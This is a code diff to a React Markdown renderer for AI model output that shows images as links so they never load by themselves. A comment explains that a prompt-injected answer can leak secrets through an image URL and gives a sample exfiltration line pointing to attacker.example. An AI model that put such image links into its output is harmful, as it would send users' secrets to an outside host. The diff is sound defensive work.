@@ -33,7 +33,35 @@ function extractText(node: unknown): string {
   return '';
 }
 
-/** Markdown (GitHub flavour) for model output; links open outside the panel. */
+/**
+ * An image in model output, shown as a link instead: loading it would send a request the
+ * person never asked for, and a prompt-injected answer can put a secret into an image URL
+ * (`![x](https://attacker.example/?d=secret)`). A click opens it in a new tab.
+ */
+function ImageAsLink({ src, alt }: { src?: string | Blob | undefined; alt?: string | undefined }) {
+  const label = alt?.trim() || 'image';
+  const url = typeof src === 'string' ? safeHttpUrl(src) : undefined;
+  if (!url) return <span className="image-link">[{label}]</span>;
+  return (
+    <a className="image-link" href={url.href} target="_blank" rel="noreferrer noopener">
+      [{label}] ({url.host})
+    </a>
+  );
+}
+
+function safeHttpUrl(value: string): URL | undefined {
+  try {
+    const url = new URL(value);
+    return url.protocol === 'https:' || url.protocol === 'http:' ? url : undefined;
+  } catch {
+    return undefined;
+  }
+}
+
+/**
+ * Markdown (GitHub flavour) for model output; links open outside the panel, and nothing in it
+ * loads from the network by itself (no images, no raw HTML).
+ */
 export function Markdown({ text }: { text: string }) {
   return (
     <div className="markdown">
@@ -42,6 +70,7 @@ export function Markdown({ text }: { text: string }) {
         components={{
           pre: CodeBlock,
           a: ({ node: _node, ...props }) => <a {...props} target="_blank" rel="noreferrer" />,
+          img: ({ src, alt }) => <ImageAsLink src={src} alt={alt} />,
         }}
       >
         {text}
